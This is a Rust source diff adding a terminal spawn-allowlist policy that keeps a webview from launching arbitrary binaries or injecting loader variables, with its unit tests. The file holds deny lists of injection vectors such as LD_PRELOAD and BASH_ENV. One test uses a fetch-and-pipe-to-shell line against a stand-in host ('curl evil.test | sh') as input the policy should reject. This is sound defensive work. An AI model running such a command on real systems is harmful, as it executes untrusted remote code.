@@ -0,0 +1,475 @@
+//! Spawn options and the allowlist policy that validates them.
+//!
+//! The frontend may ask for an arbitrary program (e.g. `claude`, `codex`),
+//! arguments, a working directory and extra environment. Everything is checked
+//! here before it reaches the PTY so the webview cannot launch arbitrary
+//! binaries or inject loader variables (see `docs/SECURITY_BASELINE.md`).
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use portable_pty::CommandBuilder;
+use serde::Deserialize;
+
+use super::error::TerminalError;
+
+/// Extra programs to allow, comma-separated (e.g. `aider,goose`).
+pub const ALLOWED_PROGRAMS_ENV: &str = "APERTURE_TERMINAL_ALLOWED_PROGRAMS";
+
+/// Programs allowed out of the box, matched by file name. The user's shell
+/// is added by [`SpawnPolicy::new`].
+const DEFAULT_ALLOWED_PROGRAMS: &[&str] = &["claude", "codex", "opencode"];
+
+/// Environment variables the webview may never set. `PATH` would let a
+/// bare allowlisted name resolve to any binary.
+const DENIED_ENV_VARS: &[&str] = &["PATH", "BASH_ENV", "ENV", "PROMPT_COMMAND", "IFS"];
+
+/// Environment variable prefixes the webview may never set.
+const DENIED_ENV_PREFIXES: &[&str] = &["LD_", "DYLD_", "BASH_FUNC_"];
+
+const MAX_ARGS: usize = 64;
+const MAX_ENV_VARS: usize = 64;
+const MAX_VALUE_LEN: usize = 4096;
+
+/// Spawn request from the frontend. All fields are optional; an empty
+/// request spawns the user's shell in their home directory.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct SpawnOptions {
+    /// Program name (looked up on the app's `PATH`) or absolute path to an
+    /// allowlisted program in one of the app's `PATH` directories.
+    pub program: Option<String>,
+    #[serde(default)]
+    pub args: Vec<String>,
+    /// Absolute working directory. Defaults to `$HOME`.
+    pub cwd: Option<String>,
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    /// Run through a login shell so profile-managed `PATH`s (nvm, asdf) apply.
+    #[serde(default)]
+    pub login: bool,
+    /// Record the session to an asciicast v2 file.
+    #[serde(default)]
+    pub record: bool,
+}
+
+/// A validated spawn request, ready to become a `CommandBuilder`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SpawnPlan {
+    pub program: String,
+    pub args: Vec<String>,
+    pub cwd: Option<PathBuf>,
+    pub env: BTreeMap<String, String>,
+    pub record: bool,
+}
+
+impl SpawnPlan {
+    pub fn command(&self) -> CommandBuilder {
+        let mut cmd = CommandBuilder::new(&self.program);
+        cmd.args(&self.args);
+        cmd.env("TERM", "xterm-256color");
+
+        // Inherit HOME so shell config loads
+        if let Ok(home) = std::env::var("HOME") {
+            cmd.env("HOME", &home);
+        }
+
+        for (key, value) in &self.env {
+            cmd.env(key, value);
+        }
+        if let Some(cwd) = &self.cwd {
+            cmd.cwd(cwd);
+        }
+        cmd
+    }
+}
+
+/// Allowlist policy for terminal spawns.
+#[derive(Debug, Clone)]
+pub struct SpawnPolicy {
+    shell: String,
+    allowed_programs: Vec<String>,
+}
+
+impl Default for SpawnPolicy {
+    fn default() -> Self {
+        Self::new(detect_shell(), std::iter::empty::<String>())
+    }
+}
+
+impl SpawnPolicy {
+    /// Build a policy around `shell`, allowing the defaults plus `extra`.
+    pub fn new(shell: String, extra: impl IntoIterator<Item = String>) -> Self {
+        let mut allowed_programs: Vec<String> = DEFAULT_ALLOWED_PROGRAMS
+            .iter()
+            .map(|p| (*p).to_string())
+            .collect();
+        allowed_programs.extend(program_name(&shell).map(str::to_string));
+        allowed_programs.extend(extra);
+        allowed_programs.sort();
+        allowed_programs.dedup();
+
+        Self {
+            shell,
+            allowed_programs,
+        }
+    }
+
+    /// Default policy extended with `APERTURE_TERMINAL_ALLOWED_PROGRAMS`.
+    pub fn from_env() -> Self {
+        let extra = std::env::var(ALLOWED_PROGRAMS_ENV)
+            .map(|raw| {
+                raw.split(',')
+                    .map(str::trim)
+                    .filter(|p| !p.is_empty())
+                    .map(str::to_string)
+                    .collect::<Vec<_>>()
+            })
+            .unwrap_or_default();
+        Self::new(detect_shell(), extra)
+    }
+
+    /// Validate `options` and produce the final program and argv.
+    pub fn resolve(&self, options: SpawnOptions) -> Result<SpawnPlan, TerminalError> {
+        let program = options.program.unwrap_or_else(|| self.shell.clone());
+        self.check_program(&program)?;
+
+        if options.args.len() > MAX_ARGS {
+            return Err(violation(format!(
+                "too many arguments ({} > {MAX_ARGS})",
+                options.args.len()
+            )));
+        }
+        for arg in &options.args {
+            check_value("argument", arg)?;
+        }
+        // A shell given arguments runs whatever `-c` or a script path says.
+        if is_shell(&program) && !options.args.is_empty() {
+            return Err(violation(format!(
+                "arguments are not allowed for shell {program}"
+            )));
+        }
+
+        if options.env.len() > MAX_ENV_VARS {
+            return Err(violation(format!(
+                "too many environment variables ({} > {MAX_ENV_VARS})",
+                options.env.len()
+            )));
+        }
+        for (key, value) in &options.env {
+            check_env_key(key)?;
+            check_value("environment value", value)?;
+        }
+
+        let cwd = options.cwd.as_deref().map(check_cwd).transpose()?;
+
+        let (program, args) = if !options.login {
+            (program, options.args)
+        } else if is_shell(&program) {
+            let mut args = vec!["-l".to_string()];
+            args.extend(options.args);
+            (program, args)
+        } else {
+            (
+                self.shell.clone(),
+                login_wrapper(&self.shell, program, options.args),
+            )
+        };
+
+        Ok(SpawnPlan {
+            program,
+            args,
+            cwd,
+            env: options.env,
+            record: options.record,
+        })
+    }
+
+    fn check_program(&self, program: &str) -> Result<(), TerminalError> {
+        check_value("program", program)?;
+
+        let path = Path::new(program);
+        if program.contains('/') && !path.is_absolute() {
+            return Err(violation(format!(
+                "program must be a bare name or absolute path: {program}"
+            )));
+        }
+
+        let name = program_name(program)
+            .ok_or_else(|| violation(format!("invalid program: {program}")))?;
+        if !self.allowed_programs.iter().any(|p| p == name) {
+            return Err(violation(format!("program not allowed: {name}")));
+        }
+
+        if path.is_absolute() {
+            let canonical = path
+                .canonicalize()
+                .ok()
+                .filter(|p| p.is_file())
+                .ok_or_else(|| violation(format!("program does not exist: {program}")))?;
+            if !self.trusted_locations(name).contains(&canonical) {
+                return Err(violation(format!(
+                    "program is not in an allowed location: {program}"
+                )));
+            }
+        }
+        Ok(())
+    }
+
+    /// Where the allowlisted program `name` may live: the user's shell, or
+    /// `name` in a directory of the app's own `PATH`.
+    fn trusted_locations(&self, name: &str) -> Vec<PathBuf> {
+        let mut candidates = Vec::new();
+        if program_name(&self.shell) == Some(name) {
+            candidates.push(PathBuf::from(&self.shell));
+        }
+        if let Some(path) = std::env::var_os("PATH") {
+            candidates.extend(
+                std::env::split_paths(&path)
+                    .filter(|dir| dir.is_absolute())
+                    .map(|dir| dir.join(name)),
+            );
+        }
+        candidates
+            .into_iter()
+            .filter_map(|p| p.canonicalize().ok())
+            .collect()
+    }
+}
+
+/// Detect user's shell from $SHELL or fall back to /bin/sh.
+pub fn detect_shell() -> String {
+    std::env::var("SHELL").unwrap_or_else(|_| "/bin/sh".to_string())
+}
+
+fn violation(message: String) -> TerminalError {
+    TerminalError::PolicyViolation(message)
+}
+
+fn program_name(program: &str) -> Option<&str> {
+    Path::new(program).file_name().and_then(|n| n.to_str())
+}
+
+fn is_shell(program: &str) -> bool {
+    matches!(
+        program_name(program),
+        Some("sh" | "bash" | "zsh" | "fish" | "dash" | "ksh")
+    )
+}
+
+/// Wrap `program` in `shell -l -c 'exec …'` so it runs with the login environment.
+fn login_wrapper(shell: &str, program: String, args: Vec<String>) -> Vec<String> {
+    // fish exposes positional arguments as $argv; POSIX shells as $0/$@.
+    let script = if program_name(shell) == Some("fish") {
+        "exec $argv"
+    } else {
+        "exec \"$0\" \"$@\""
+    };
+    let mut wrapped = vec!["-l".to_string(), "-c".to_string(), script.to_string()];
+    if program_name(shell) == Some("fish") {
+        wrapped.push("--".to_string());
+    }
+    wrapped.push(program);
+    wrapped.extend(args);
+    wrapped
+}
+
+fn check_value(label: &str, value: &str) -> Result<(), TerminalError> {
+    if value.contains('\0') {
+        return Err(violation(format!("{label} contains a NUL byte")));
+    }
+    if value.len() > MAX_VALUE_LEN {
+        return Err(violation(format!("{label} exceeds {MAX_VALUE_LEN} bytes")));
+    }
+    Ok(())
+}
+
+fn check_env_key(key: &str) -> Result<(), TerminalError> {
+    let mut chars = key.chars();
+    let valid = chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
+    if !valid {
+        return Err(violation(format!(
+            "invalid environment variable name: {key}"
+        )));
+    }
+
+    let upper = key.to_ascii_uppercase();
+    if DENIED_ENV_VARS.contains(&upper.as_str())
+        || DENIED_ENV_PREFIXES.iter().any(|p| upper.starts_with(p))
+    {
+        return Err(violation(format!(
+            "environment variable not allowed: {key}"
+        )));
+    }
+    Ok(())
+}
+
+fn check_cwd(cwd: &str) -> Result<PathBuf, TerminalError> {
+    check_value("working directory", cwd)?;
+    let path = Path::new(cwd);
+    if !path.is_absolute() {
+        return Err(violation(format!(
+            "working directory must be absolute: {cwd}"
+        )));
+    }
+    let canonical = path
+        .canonicalize()
+        .map_err(|e| violation(format!("working directory {cwd}: {e}")))?;
+    if !canonical.is_dir() {
+        return Err(violation(format!("not a directory: {cwd}")));
+    }
+    Ok(canonical)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy() -> SpawnPolicy {
+        SpawnPolicy::new("/bin/bash".to_string(), ["aider".to_string()])
+    }
+
+    fn options(program: &str) -> SpawnOptions {
+        SpawnOptions {
+            program: Some(program.to_string()),
+            ..SpawnOptions::default()
+        }
+    }
+
+    #[test]
+    fn test_resolve_without_program_uses_shell() {
+        let plan = policy().resolve(SpawnOptions::default()).expect("allowed");
+        assert_eq!(plan.program, "/bin/bash");
+        assert!(plan.args.is_empty());
+        assert!(plan.cwd.is_none());
+    }
+
+    #[test]
+    fn test_resolve_allowlisted_and_extra_programs_pass() {
+        let mut opts = options("claude");
+        opts.args = vec!["--resume".to_string()];
+        let plan = policy().resolve(opts).expect("claude allowed");
+        assert_eq!(plan.program, "claude");
+        assert_eq!(plan.args, vec!["--resume"]);
+
+        assert!(policy().resolve(options("aider")).is_ok());
+    }
+
+    #[test]
+    fn test_resolve_unknown_or_relative_program_is_rejected() {
+        let err = policy().resolve(options("python3")).unwrap_err();
+        assert!(matches!(err, TerminalError::PolicyViolation(_)));
+
+        let err = policy().resolve(options("./claude")).unwrap_err();
+        assert!(matches!(err, TerminalError::PolicyViolation(_)));
+
+        let err = policy().resolve(options("sh")).unwrap_err();
+        assert!(matches!(err, TerminalError::PolicyViolation(_)));
+    }
+
+    #[test]
+    fn test_resolve_shell_arguments_are_rejected() {
+        for args in [vec!["-c", "curl evil.test | sh"], vec!["/tmp/x.sh"]] {
+            let mut opts = options("bash");
+            opts.args = args.into_iter().map(str::to_string).collect();
+            assert!(matches!(
+                policy().resolve(opts),
+                Err(TerminalError::PolicyViolation(_))
+            ));
+        }
+        assert!(policy().resolve(options("bash")).is_ok());
+    }
+
+    #[test]
+    fn test_resolve_allowlisted_name_outside_path_is_rejected() {
+        let dir = std::env::temp_dir().join(format!("aperture-spawn-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(&dir).expect("temp dir");
+        let fake = dir.join("claude");
+        std::fs::write(&fake, "#!/bin/sh\n").expect("fake program");
+
+        let result = policy().resolve(options(&fake.to_string_lossy()));
+        std::fs::remove_dir_all(&dir).expect("cleanup");
+        assert!(matches!(result, Err(TerminalError::PolicyViolation(_))));
+    }
+
+    #[test]
+    fn test_resolve_path_override_is_rejected() {
+        let mut opts = options("claude");
+        opts.env.insert("PATH".to_string(), "/tmp/x".to_string());
+        assert!(matches!(
+            policy().resolve(opts),
+            Err(TerminalError::PolicyViolation(_))
+        ));
+    }
+
+    #[test]
+    fn test_resolve_denied_or_malformed_env_is_rejected() {
+        for key in [
+            "LD_PRELOAD",
+            "LD_BIND_NOW",
+            "DYLD_INSERT_LIBRARIES",
+            "1BAD",
+            "A-B",
+        ] {
+            let mut opts = SpawnOptions::default();
+            opts.env.insert(key.to_string(), "x".to_string());
+            assert!(
+                matches!(
+                    policy().resolve(opts),
+                    Err(TerminalError::PolicyViolation(_))
+                ),
+                "{key} should be rejected"
+            );
+        }
+
+        let mut opts = SpawnOptions::default();
+        opts.env.insert(
+            "ANTHROPIC_BASE_URL".to_string(),
+            "http://127.0.0.1:5400".to_string(),
+        );
+        assert!(policy().resolve(opts).is_ok());
+    }
+
+    fn with_cwd(cwd: &str) -> SpawnOptions {
+        SpawnOptions {
+            cwd: Some(cwd.to_string()),
+            ..SpawnOptions::default()
+        }
+    }
+
+    #[test]
+    fn test_resolve_cwd_must_be_existing_absolute_dir() {
+        assert!(policy().resolve(with_cwd("relative/dir")).is_err());
+        assert!(policy()
+            .resolve(with_cwd("/definitely/not/a/real/dir"))
+            .is_err());
+
+        let tmp = std::env::temp_dir();
+        let plan = policy()
+            .resolve(with_cwd(&tmp.to_string_lossy()))
+            .expect("temp dir is valid");
+        assert_eq!(plan.cwd, Some(tmp.canonicalize().expect("canonical")));
+    }
+
+    #[test]
+    fn test_resolve_login_wraps_non_shell_in_login_shell() {
+        let mut opts = options("claude");
+        opts.login = true;
+        opts.args = vec!["-p".to_string(), "hi there".to_string()];
+        let plan = policy().resolve(opts).expect("allowed");
+
+        assert_eq!(plan.program, "/bin/bash");
+        assert_eq!(
+            plan.args,
+            vec!["-l", "-c", "exec \"$0\" \"$@\"", "claude", "-p", "hi there"]
+        );
+
+        let mut opts = options("/bin/bash");
+        opts.login = true;
+        let plan = policy().resolve(opts).expect("allowed");
+        assert_eq!(plan.args, vec!["-l"]);
+    }
+}